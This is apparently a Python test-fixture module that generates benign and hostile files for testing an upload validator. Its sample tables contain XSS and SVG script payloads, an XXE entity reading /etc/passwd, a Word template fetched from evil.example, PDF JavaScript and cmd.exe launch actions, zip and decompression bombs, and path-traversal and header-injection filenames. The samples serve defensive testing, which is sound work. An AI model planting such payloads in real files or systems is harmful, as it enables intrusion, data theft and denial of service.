"""Files, good and hostile, made here: no binary lies in the repository."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from PIL.TiffImagePlugin import IFDRational

GPS_TAG = 0x8825
SCRIPT = b"<script>alert(document.cookie)</script>"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
ATTACHED = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


def made(content) -> bytes:
    return content() if callable(content) else content


def picture(kind="JPEG", size=(64, 48), mode="RGB", **options) -> bytes:
    content = io.BytesIO()
    Image.new(mode, size, "#336699" if mode == "RGB" else 0).save(content, kind, **options)
    return content.getvalue()


def located(kind="JPEG", orientation=6) -> bytes:
    """A picture that says where it was taken, by whom, and which side is up."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x013B] = "Canary Photographer"
    place = exif.get_ifd(GPS_TAG)
    place[1], place[2] = "N", (IFDRational(40), IFDRational(42), IFDRational(46))
    place[3], place[4] = "W", (IFDRational(74), IFDRational(0), IFDRational(22))
    return picture(kind, exif=exif)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width, height) -> bytes:
    """A few bytes that claim so many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def zipped(members: dict, **options) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return content.getvalue()


def word(**more) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": "<w:document/>", **more})


def pdf(body=b"1 0 obj<</Type/Catalog>>endobj\n", tail=b"%%EOF\n") -> bytes:
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\n" + tail


def packed_pdf(inner: bytes) -> bytes:
    stream = zlib.compress(inner)
    head = f"1 0 obj<</Type/ObjStm/N 1/First 4/Length {len(stream)}/Filter/FlateDecode>>stream\n".encode()
    return pdf(head + stream + b"\nendstream endobj\n")


def open_document() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office/>")
    return content.getvalue()


def locked_zip() -> bytes:
    """A document whose members say that they are encrypted."""
    content = bytearray(word())
    for at in [
        each for each in range(len(content)) if bytes(content[each : each + 4]) in {b"PK\x03\x04", b"PK\x01\x02"}
    ]:
        content[at + (6 if content[at + 2] == 3 else 8)] |= 1
    return bytes(content)


def lying_zip() -> bytes:
    """A document with a member that is longer than it says."""
    content = word(**{"word/big.xml": "x" * 100_000})
    return content.replace(struct.pack("<I", 100_000), struct.pack("<I", 100))


# Large ones are made when they are asked for.
GOOD = {
    "plan.pdf": (pdf(), "application/pdf"),
    "compressed.pdf": (packed_pdf(b"1 0 <</Type/Page>>"), "application/pdf"),
    "photo.jpg": (picture(), "image/jpeg"),
    "photo.jpeg": (picture(mode="L"), "image/jpeg"),
    "press.jpg": (picture(mode="CMYK"), "image/jpeg"),
    "drawing.png": (picture("PNG", mode="P"), "image/png"),
    "glass.png": (picture("PNG", mode="RGBA"), "image/png"),
    "photo.webp": (picture("WEBP"), "image/webp"),
    "note.txt": (b"Left door, then down", "text/plain; charset=utf-8"),
    "old.txt": ("Größe".encode("cp1252"), "text/plain; charset=utf-8"),
    "meters.csv": ("Zähler;Stand\n1;2\n".encode("utf-8-sig"), "text/csv; charset=utf-8"),
    "letter.docx": (word(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "diagram.docx": (
        word(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": "x"}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "meters.xlsx": (
        zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>"}),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "meters.ods": (open_document(), "application/vnd.oasis.opendocument.spreadsheet"),
}
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
REFUSED = {
    "empty.txt": (b"", "is empty"),
    "drawing.svg": (SVG, "with code"),
    "drawing.png": (SVG, "with code"),
    "spaced.svg": (b"\xef\xbb\xbf \n\t" + SVG, "with code"),
    "declared.xml": (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
        "with code",
    ),
    "page.html": (b"<!doctype html><title>x</title>" + SCRIPT, "with code"),
    "page.txt": (b"   <html><body>" + SCRIPT, "with code"),
    "old-page.htm": ("<html>Größe".encode("cp1252"), "with code"),
    "wide-page.html": ("<html>".encode("utf-16"), "no kind"),
    "program.exe": (b"MZ\x90\x00\x03\x00\x00\x00", "no kind"),
    "program.pdf": (b"\x7fELF\x02\x01\x01\x00", "no kind"),
    "nul.txt": (b"text\x00more", "no kind"),
    "escape.txt": (b"\x1b]0;title\x07", "no kind"),
    "animation.gif": (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00", "no kind"),
    "vector.tif": (b"II*\x00\x08\x00\x00\x00", "no kind"),
    "bitmap.bmp": (b"BM" + b"\x00" * 60, "no kind"),
    "movie.mp4": (b"\x00\x00\x00\x18ftypmp42\x00\x00", "no kind"),
    "archive.gz": (b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "no kind"),
    "archive.7z": (b"7z\xbc\xaf\x27\x1c\x00\x04", "no kind"),
    "cut.jpg": (picture(size=(400, 300))[:300], "cannot be read"),
    "cut.png": (picture("PNG")[:60], "cannot be read"),
    "cut.webp": (picture("WEBP")[:40], "cannot be read"),
    "head-only.jpg": (b"\xff\xd8\xff\xe0", "cannot be read"),
    "script.jpg": (b"\xff\xd8\xff\xe0" + SCRIPT * 10, "cannot be read"),
    "billion.png": (huge_png(32_000, 31_250), "too many pixels"),
    "flood.png": (huge_png(2**31 - 1, 2**31 - 1), "too many pixels"),
    "just-over.png": (huge_png(10_000, 5_001), "too many pixels"),
    "plain.zip": (zipped({"a.txt": "hello"}), "no kind"),
    "letter.zip": (zipped({"[Content_Types].xml": TYPES}), "no kind"),
    "two-in-one.docx": (word(**{"xl/workbook.xml": "<workbook/>"}), "no kind"),
    "page.odt": (zipped({"mimetype": "text/html", "index.html": SCRIPT.decode()}), "no kind"),
    "bomb.docx": (lambda: word(**{"word/media/a.bin": b"\0" * 101 * 1024 * 1024}), "too large once unpacked"),
    "crowd.docx": (lambda: word(**{f"word/media/{n}": "" for n in range(3000)}), "too large once unpacked"),
    "lying.docx": (lying_zip(), "cannot be read"),
    "climbing.docx": (word(**{"../../etc/cron.d/x": "x"}), "cannot be read"),
    "rooted.docx": (word(**{"/etc/passwd": "x"}), "cannot be read"),
    "macros.docx": (word(**{"word/vbaProject.bin": "x"}), "macros"),
    "control.docx": (word(**{"word/activeX/activeX1.bin": "x"}), "macros"),
    "inside.docx": (word(**{"word/embeddings/oleObject1.bin": "x"}), "macros"),
    "fetched.docx": (word(**{"word/_rels/settings.xml.rels": ATTACHED}), "macros"),
    "locked.docx": (locked_zip(), "password"),
    "cut.docx": (word()[:200], "cannot be read"),
    "page-before.docx": (b"PK\x03\x04" + SCRIPT + word(), "cannot be read"),
    "page-behind.docx": (word() + SCRIPT, "cannot be read"),
    "jar.pdf": (pdf() + zipped({"a": "b"}), "cannot be read"),
    "page-behind.pdf": (pdf() + SCRIPT, "cannot be read"),
    "page-before.pdf": (SCRIPT + pdf(), "with code"),
    "cut.pdf": (pdf()[:20], "cannot be read"),
    "script.pdf": (pdf(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"), "macros"),
    "escaped.pdf": (pdf(b"1 0 obj<</S/J#61va#53cript/JS(app.alert(1))>>endobj\n"), "macros"),
    "hidden.pdf": (packed_pdf(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"), "macros"),
    "launch.pdf": (pdf(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"), "macros"),
    "inside.pdf": (pdf(b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj\n"), "macros"),
    "form.pdf": (pdf(b"1 0 obj<</AcroForm<</XFA [1 0 R]>>>>endobj\n"), "macros"),
    "film.pdf": (pdf(b"1 0 obj<</Subtype/RichMedia>>endobj\n"), "macros"),
    "locked.pdf": (pdf(b"trailer<</Encrypt 5 0 R>>\n"), "password"),
    "bomb.pdf": (lambda: packed_pdf(b"\0" * 51 * 1024 * 1024), "too large once unpacked"),
    "long.txt": (lambda: b"a" * (5 * 1024 * 1024 + 1), "no kind"),
    "large.pdf": (lambda: pdf(b"%" + b"a" * 20 * 1024 * 1024 + b"\n"), "too large"),
}
# Pictures with something else in them: what is kept is the picture alone.
CLEANED = {
    "gps.jpg": located(),
    "gps.webp": located("WEBP"),
    "gps.png": located("PNG"),
    "page-behind.jpg": picture() + b"<html>" + SCRIPT,
    "comment.jpg": picture(comment=SCRIPT),
    "archive-behind.png": picture("PNG") + zipped({"a.html": SCRIPT.decode()}),
    "page-behind.webp": picture("WEBP") + SCRIPT,
}
NAMES = {
    "../../etc/passwd": "passwd.txt",
    "..\\..\\windows\\system32\\cmd.exe": "cmd.exe.txt",
    "/abs/olute.txt": "olute.txt",
    "note\r\nSet-Cookie: a=b.txt": "note Set-Cookie_ a=b.txt",
    "a\x00b.txt": "ab.txt",
    "invoice\u202etxt.exe": "invoicetxt.exe.txt",
    ".htaccess": "htaccess.txt",
    "...": "file.txt",
    "": "file.txt",
    'a"b;c.txt': "a_b;c.txt",
    "page.html": "page.html.txt",
    "Größe Plan.TXT": "Größe Plan.txt",
    "x" * 300 + ".txt": "x" * 116 + ".txt",
}
